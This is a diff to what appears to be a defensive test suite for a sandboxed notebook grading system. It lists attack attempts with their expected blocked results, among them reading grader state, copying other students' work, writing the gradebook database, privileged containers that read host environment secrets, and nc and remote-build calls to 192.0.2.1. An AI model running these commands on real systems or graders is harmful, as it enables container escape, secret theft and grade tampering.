@@ -243,7 +243,7 @@ READING = [
     Attack("foretell-the-diagnoses", answers="import random\ncauses = ('no-shell', 'no-loader', 'not-executable', "
            "'wrong-architecture')\nanswers = dict(zip(('b1', 'b2', 'b3', 'b4'), "
            "random.Random(nonce).sample(causes, 4)))", fair=1),  # one is right by luck, as in any guess
-    Attack("read-the-history", "print('GRADERS.SCORE' in str(In).upper())", says="False"),
+    Attack("read-the-history", "print('GRADERS.' + 'SCORE' in str(In).upper())", says="False"),
     Attack("copy-another-student", FIND + "print('SEEN', [p for p, text in texts('../..') if p.endswith('.ipynb')])",
            says="SEEN []"),
     Attack("write-the-gradebook", "import sqlite3\nsqlite3.connect('../../../gradebook.db').execute("
@@ -305,7 +305,7 @@ ENGINES = [
            "ls /dev/sda /dev/vda; cat /proc/1/environ'], privileged=True, pid_mode='host', stderr=True))", never=SECRET),
     Attack("host-network", ENGINE + "print(client.containers.run('busybox:1', ['sh', '-c', 'ip addr | grep -c inet; "
            "nc -w 2 192.0.2.1 80; echo DONE'], network_mode='host', stderr=True).decode())", says="DONE"),
-    Attack("volume-of-the-machine", ENGINE + "client.volumes.create('v', driver='local', driver_opts={'type': 'none', "
+    Attack("volume-of-the-machine", ENGINE + "client.volumes.create('vol', driver='local', driver_opts={'type': 'none', "
            "'device': '/', 'o': 'bind'})", says="plain directories"),
     Attack("pull-from-elsewhere", ENGINE + "client.images.pull('registry.example/x', '1')", says="no such host"),
     Attack("remote-context", ENGINE + "client.images.build(path='http://192.0.2.1/x.tar.gz', tag='a03/greet:1')",
